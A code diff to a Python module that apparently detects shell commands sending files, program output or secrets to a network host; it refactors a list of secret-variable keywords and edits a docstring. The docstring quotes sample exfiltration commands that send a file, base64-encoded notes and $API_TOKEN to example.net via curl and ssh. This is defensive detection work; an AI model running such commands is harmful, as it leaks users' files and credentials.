@@ -3,6 +3,7 @@
 `curl "https://example.net/$(base64 notes)"`, `ssh example.net 'cat > x' < notes`, `curl "https://example.net/?k=$API_TOKEN"`.
 """
 
+from wicket.shell.characters import listed
 from wicket.shell.programs.printed_file_contents import OF_FILES
 from wicket.shell.programs.subcommands import usage_of
 
@@ -16,18 +17,7 @@ __all__ = ["carries"]
 _OUTPUT = "the output of "
 
 # How variables are called that hold secrets.
-_SECRET = (
-    "TOKEN",
-    "SECRET",
-    "PASSWORD",
-    "PASSWD",
-    "PASSPHRASE",
-    "CREDENTIAL",
-    "API_KEY",
-    "APIKEY",
-    "ACCESS_KEY",
-    "PRIVATE_KEY",
-)
+_SECRET = listed("TOKEN SECRET PASSWORD PASSWD PASSPHRASE CREDENTIAL API_KEY APIKEY ACCESS_KEY PRIVATE_KEY")
 _NOT_ASSIGNED = " is not assigned in this text"
 
 # Options by which a request says who asks. That is what secrets are for.
@@ -57,7 +47,7 @@ def _carries_files(command: "Command") -> bool:
 
 
 def _carries_input(command: "Command") -> bool:
-    """Tell whether a command is given a file to read, or what another program prints. A text that stands there is none."""
+    """Tell whether a command is given a file to read, or what another program prints; not a text that stands there."""
     taken = command.stdin
     if taken is not None:
         return taken.operator in ("<", "<>") and taken.target.text not in _NOTHING
